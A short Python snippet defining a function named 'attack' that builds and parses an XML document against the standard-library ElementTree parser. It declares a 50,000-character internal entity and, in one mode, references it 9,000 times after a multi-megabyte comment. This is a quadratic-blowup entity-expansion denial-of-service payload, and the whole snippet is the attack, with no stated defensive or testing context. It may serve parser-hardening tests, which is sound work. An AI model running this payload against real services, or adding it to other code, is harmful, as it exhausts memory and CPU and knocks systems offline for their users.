import xml.etree.ElementTree as tree

def attack(x):
    entity, padding = "a" * 50000, "<!--%s-->" % ("p" * 5000000 if x == 2 else "")
    text = "<!DOCTYPE r [<!ENTITY e '%s'>]><r>%s%s</r>" % (entity, padding, "&e;" * (9000 if x == 2 else x))
    return len(tree.fromstring(text).text)
